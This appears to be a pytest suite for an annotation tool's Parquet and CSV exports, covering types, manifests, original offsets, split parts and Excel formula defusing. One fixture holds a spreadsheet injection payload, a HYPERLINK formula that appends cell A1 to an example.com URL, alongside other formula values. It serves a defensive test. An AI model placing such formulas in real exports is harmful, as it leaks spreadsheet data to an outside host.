"""Span tables, read by pandas and DuckDB as they are: every span, or the
METRIC spans with their attributes, typed (period is text, an empty value is
not a missing one), with manifests that count the rows written."""

from __future__ import annotations

import json
import sqlite3

import pandas as pd
import pytest

from desktop.cli import main
from models import Project
from models.io.export import export_project
from tests.io.conftest import cleaned_pdf_project, expected_spans, open_astral, squeeze


def metrics_of(reference):
    return [(d["id"], s) for d in reference for s in d["spans"] if s["label"] == "METRIC"]


def manifest_of(out):
    return json.loads(out.with_name(out.name + ".manifest.json").read_text(encoding="utf-8"))


def test_metrics_parquet_is_typed(gold, tmp_path, reference):
    out = tmp_path / "metrics.parquet"
    export_project(gold, "metrics-parquet", out)
    frame = pd.read_parquet(out)
    metrics = metrics_of(reference)
    assert len(frame) == len(metrics)
    assert frame["value"].dtype == "float64" and frame["start"].dtype == "int64"
    assert pd.api.types.is_string_dtype(frame["period"])
    assert list(frame["value"].fillna(-1)) == [
        s.get("attrs", {}).get("value", -1) for _, s in metrics
    ]
    periods = [s.get("attrs", {}).get("period") for _, s in metrics]
    assert [None if pd.isna(p) else p for p in frame["period"]] == periods  # "" and None apart
    assert "" in periods and None in periods and "2024" in periods
    assert all(t in sentence for t, sentence in zip(frame["text"], frame["sentence"], strict=True))
    manifest = manifest_of(out)
    assert manifest["counts"]["spans"] == len(metrics) == manifest["table"]["rows"]
    assert manifest["counts"]["by_label"] == {"METRIC": len(metrics)}


def test_metrics_csv_without_bom_unless_for_excel(gold, tmp_path, reference):
    out = tmp_path / "metrics.csv"
    export_project(gold, "metrics-csv", out)
    data = out.read_bytes()
    assert data.startswith(b'"document","title",')  # no byte-order mark
    table = pd.read_csv(out)
    assert len(table) == len(metrics_of(reference)) and table["value"].dtype == "float64"
    assert list(table.columns)[:2] == ["document", "title"]
    typed = pd.read_csv(out, dtype=manifest_of(out)["table"]["columns"])
    assert typed["period"].dropna().isin(["2023", "2024", "2025"]).all()  # text, not 2024.0
    excel = tmp_path / "excel.csv"
    export_project(gold, "metrics-csv", excel, options={"excel": True})
    assert excel.read_bytes() == b"\xef\xbb\xbf" + data


def test_duckdb_reads_the_tables(gold, tmp_path, reference):
    duckdb = pytest.importorskip("duckdb", reason="DuckDB is in the test extra")
    parquet, csv = tmp_path / "spans.parquet", tmp_path / "metrics.csv"
    export_project(gold, "spans-parquet", parquet)
    export_project(gold, "metrics-csv", csv)
    by_label = dict(
        duckdb.sql(f"SELECT label, count(*) FROM '{parquet}' GROUP BY label").fetchall()
    )
    wanted: dict[str, int] = {}
    for _, _, _, label, _ in expected_spans(reference):
        wanted[label] = wanted.get(label, 0) + 1
    assert by_label == wanted
    rows = duckdb.sql(
        f"SELECT period, count(*) FROM read_csv('{csv}', allow_quoted_nulls=false) GROUP BY period"
    ).fetchall()
    periods = dict(rows)
    assert "" in periods and None in periods and "2024" in periods  # text, and empty ≠ missing


def test_spans_tables_hold_every_span_with_its_attributes(gold, tmp_path, reference):
    out = tmp_path / "spans.parquet"
    report = export_project(gold, "spans-parquet", out)
    frame = pd.read_parquet(out)
    got = list(
        zip(
            frame["document"],
            frame["start"],
            frame["end"],
            frame["label"],
            frame["text"],
            strict=True,
        )
    )
    assert got == expected_spans(reference) == got[: report.spans]
    assert set(frame["origin"]) == {"imported"} and set(frame["annotator"]) == {"gold"}
    for column in ("indicator", "value", "unit", "approx", "period"):
        assert column in frame.columns
    assert frame["value"].dtype == "float64"
    table = (
        pd.read_csv(tmp_path / "spans.csv")
        if export_project(gold, "spans-csv", tmp_path / "spans.csv")
        else None
    )
    assert len(table) == len(frame)


def test_pending_suggestions_as_a_table(gold, tmp_path):
    from models.io.export import Selection

    out = tmp_path / "pending.parquet"
    open_astral(gold)
    export_project(gold, "spans-parquet", out, selection=Selection("suggestions", "gold"))
    frame = pd.read_parquet(out)
    assert list(frame["text"]) == ["13.7%", "赣州"]
    assert list(frame["origin"]) == ["suggestion", "suggestion"]
    assert list(frame["source"]) == ["metric", "company"] and list(frame["score"]) == [0.8, 0.55]


# -- where a span sits in the text before --clean -------------------------------------------


def test_tables_say_where_a_span_sits_in_the_text_before_clean(tmp_path, capsys):
    """A reviewer who cleaned a PDF on import finds each gold span in the text
    taken from the PDF (layout spaces and line breaks inside it); documents
    imported without --clean have no original offsets, and pandas reads the two
    columns as nullable integers, from Parquet as from CSV with the manifest."""
    path, _ = cleaned_pdf_project(tmp_path)
    parquet, csv = tmp_path / "spans.parquet", tmp_path / "metrics.csv"
    assert main(["export", str(path), "--format", "spans-parquet", "--out", str(parquet)]) == 0
    assert main(["export", str(path), "--format", "metrics-csv", "--out", str(csv)]) == 0
    frame = pd.read_parquet(parquet)
    columns = manifest_of(csv)["table"]["columns"]
    metrics = pd.read_csv(csv, dtype=columns)
    assert columns["original_start"] == columns["original_end"] == "Int64"
    for table in (frame, metrics):
        assert table["original_start"].dtype == "Int64" == table["original_end"].dtype
    with Project.open(path, annotator="alice") as project:
        originals = {d: project.document_original(d)[0] for d in project.document_ids()}
    cleaned = frame[frame["original_start"].notna()]
    assert set(cleaned["text"]) == {"江西华勤电子科技有限公司", "932.4亿元", "13.7%"}
    assert frame["original_start"].isna().sum() == 1  # the text file's span
    crossing = 0
    for table in (frame, metrics):
        for row in table[table["original_start"].notna()].itertuples():
            original = originals[row.document]
            found = original[row.original_start : row.original_end]
            assert squeeze(found) == squeeze(row.text)
            crossing += found != row.text
    assert crossing  # a name or a figure broken over lines of the PDF
    assert metrics["original_start"].isna().sum() == 1


def test_a_damaged_offset_map_leaves_the_original_offsets_empty(tmp_path, capsys):
    """A map cut short or one that does not parse gives no original offsets,
    and the export still writes every span."""
    path, _ = cleaned_pdf_project(tmp_path)
    for damage in ("[0, 1, 2]", "not json"):
        with sqlite3.connect(path) as conn:
            conn.execute(
                "UPDATE documents SET offset_map = ? WHERE original IS NOT NULL", (damage,)
            )
        out = tmp_path / "spans.parquet"
        argv = ["export", str(path), "--format", "spans-parquet", "--out", str(out), "--force"]
        assert main(argv) == 0
        frame = pd.read_parquet(out)
        assert len(frame) == 4 and frame["original_start"].isna().all()
        assert frame["original_end"].isna().all()


FORMULA_TITLE = '=HYPERLINK("http://example.com/?d="&A1,"详情")'
FORMULA_TEXT = "-3.5%的降幅之后，+10%的回升，@全体股东：本季营收-2亿元。"


def _formula_project(path):
    """Cells a spreadsheet would run as formulas: a title, an annotator's name,
    an attribute, a sentence, next to cells that are plain signed numbers."""
    with Project.create(path, annotator="=1+1") as project:
        doc, _ = project.add_document(FORMULA_TEXT, title=FORMULA_TITLE)
        for surface, attrs in (
            ("-3.5%", {"indicator": "=SUM(A1:A9)", "value": -0.035}),
            ("+10%", {"indicator": "\t=1+1", "value": 0.1}),
            ("-2亿元", {"indicator": "营收", "value": -2e8}),
        ):
            start = FORMULA_TEXT.index(surface)
            project.add_span(doc, start, start + len(surface), "METRIC", attrs=attrs)
        project.set_status(doc, "done")


def test_excel_csv_defuses_formulas_but_keeps_signed_numbers(tmp_path):
    import csv

    _formula_project(tmp_path / "f.biaozhu")
    with Project.open(tmp_path / "f.biaozhu") as project:
        plain, excel = tmp_path / "plain.csv", tmp_path / "excel.csv"
        export_project(project, "metrics-csv", plain)
        export_project(project, "metrics-csv", excel, options={"excel": True})
    with open(excel, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["text"] for r in rows] == ["-3.5%", "+10%", "'-2亿元"]  # numbers stay data
    assert {r["title"] for r in rows} == {"'" + FORMULA_TITLE}
    assert {r["annotator"] for r in rows} == {"'=1+1"}
    assert [r["indicator"] for r in rows] == ["'=SUM(A1:A9)", "'\t=1+1", "营收"]
    assert {r["sentence"][:2] for r in rows} == {"'-"}
    assert [float(r["value"]) for r in rows] == [-0.035, 0.1, -2e8]  # numeric column untouched
    # the file for pandas holds the texts as they are
    frame = pd.read_csv(plain, keep_default_na=False)
    assert set(frame["title"]) == {FORMULA_TITLE} and set(frame["annotator"]) == {"=1+1"}
    assert list(frame["indicator"]) == ["=SUM(A1:A9)", "\t=1+1", "营收"]


def test_a_metric_value_that_is_no_number_is_counted_not_silently_missing(tmp_path, capsys):
    text = "营收18亿元，利润约3亿元，税收1,200万元，成本nan元。"
    with Project.create(tmp_path / "v.biaozhu", annotator="alice") as project:
        doc, _ = project.add_document(text)
        for surface, value in (
            ("18亿元", 1.8e9),
            ("约3亿元", "约3亿"),
            ("1,200万元", "1,200"),
            ("nan元", "nan"),
        ):
            start = text.index(surface)
            project.add_span(doc, start, start + len(surface), "METRIC", attrs={"value": value})
        project.set_status(doc, "done")
    out = tmp_path / "metrics.csv"
    assert (
        main(["export", str(tmp_path / "v.biaozhu"), "--format", "metrics-csv", "--out", str(out)])
        == 0
    )
    said = capsys.readouterr().out
    assert "2 METRIC values are not numbers" in said
    frame = pd.read_csv(out)
    assert frame["value"].isna().tolist() == [False, True, False, True]  # nan is no value either
    assert manifest_of(out)["notes"] == {"metrics_values_not_numbers": 2}


# -- one table in parts ----------------------------------------------------------------------


def _parts_project(path):
    """Two documents that --split 1:1 puts in different parts: one whose spans
    have no attributes, one whose METRIC has them."""
    with Project.create(path, annotator="alice") as project:
        for text, surface, label, attrs in (
            ("比亚迪在抚州投资建厂。", "比亚迪", "COMPANY", None),
            ("全年营收932.4亿元。", "932.4亿元", "METRIC", {"value": 93240000000.0, "unit": "元"}),
        ):
            doc, _ = project.add_document(text)
            start = text.index(surface)
            project.add_span(doc, start, start + len(surface), label, attrs=attrs)
            project.set_status(doc, "done")


@pytest.mark.parametrize("fmt", ["spans-parquet", "spans-csv"])
def test_split_table_parts_share_one_schema(tmp_path, fmt):
    """The parts of a split table are one table: read together (pandas, Arrow,
    datasets take the first file's columns) they must keep every column, so each
    part has the columns of all, and the manifest counts the rows of all."""
    _parts_project(tmp_path / "p.biaozhu")
    out = tmp_path / "parts"
    with Project.open(tmp_path / "p.biaozhu") as project:
        report = export_project(project, fmt, out, split="1:1", seed=0)
    assert {name: part["documents"] for name, part in report.parts.items()} == {
        "train": 1,
        "dev": 1,
    }
    files = [
        out / f"{name}{'.parquet' if fmt.endswith('parquet') else '.csv'}"
        for name in ("dev", "train")
    ]
    if fmt == "spans-parquet":
        import pyarrow.parquet as pq

        assert pq.read_schema(files[0]) == pq.read_schema(files[1])
        frame = pd.read_parquet(files)  # as one table: the first file's schema for both
    else:
        frame = pd.concat([pd.read_csv(f) for f in files])
        assert list(pd.read_csv(files[0]).columns) == list(pd.read_csv(files[1]).columns)
    assert sorted(frame["text"]) == ["932.4亿元", "比亚迪"]
    assert frame["value"].dropna().tolist() == [93240000000.0]
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["table"]["rows"] == 2 == manifest["counts"]["spans"]
    assert {"value", "unit"} <= set(manifest["table"]["columns"])


def _mixed_project(path):
    """METRIC attributes as imports bring them: a period as a number here and as
    text there, values as ints, floats, numeric text and no number at all."""
    text = "2024年营收5亿元，利润5.5亿元，税收1,200万元，成本约3亿元。"
    with Project.create(path, annotator="alice") as project:
        doc, _ = project.add_document(text)
        for surface, attrs in (
            ("5亿元", {"value": 5, "unit": "元", "period": 2024}),
            ("5.5亿元", {"value": 5.5, "unit": "元", "period": "2024"}),
            ("1,200万元", {"value": "1,200", "period": "2024"}),
            ("约3亿元", {"value": "约3亿", "approx": "约"}),
        ):
            start = text.index(surface)
            project.add_span(doc, start, start + len(surface), "METRIC", attrs=attrs)
        project.set_status(doc, "done")


@pytest.mark.parametrize("fmt", ["spans-parquet", "spans-csv"])
def test_the_guidelines_attributes_keep_their_types_in_the_spans_tables(tmp_path, fmt):
    """One period written as a number made the column JSON text ('"2024"' with
    its quotes beside a bare 2024), one value that is no number made every value
    text: the guideline's attributes keep the guideline's types, as in the
    METRIC tables (value a number in base units, period text)."""
    _mixed_project(tmp_path / "m.biaozhu")
    out = tmp_path / ("spans.parquet" if fmt == "spans-parquet" else "spans.csv")
    with Project.open(tmp_path / "m.biaozhu") as project:
        report = export_project(project, fmt, out)
    manifest = manifest_of(out)
    columns = manifest["table"]["columns"]
    assert columns["value"] == "float64" and columns["period"] == "string"
    frame = pd.read_parquet(out) if fmt == "spans-parquet" else pd.read_csv(out, dtype=columns)
    assert frame["value"].dtype == "float64"
    assert frame["value"].fillna(-1).tolist() == [5e0, 5.5, 1200.0, -1]
    assert frame["period"].fillna("").tolist() == ["2024", "2024", "2024", ""]
    assert {k: v for k, v in report.notes.items() if v} == {"metrics_values_not_numbers": 1}
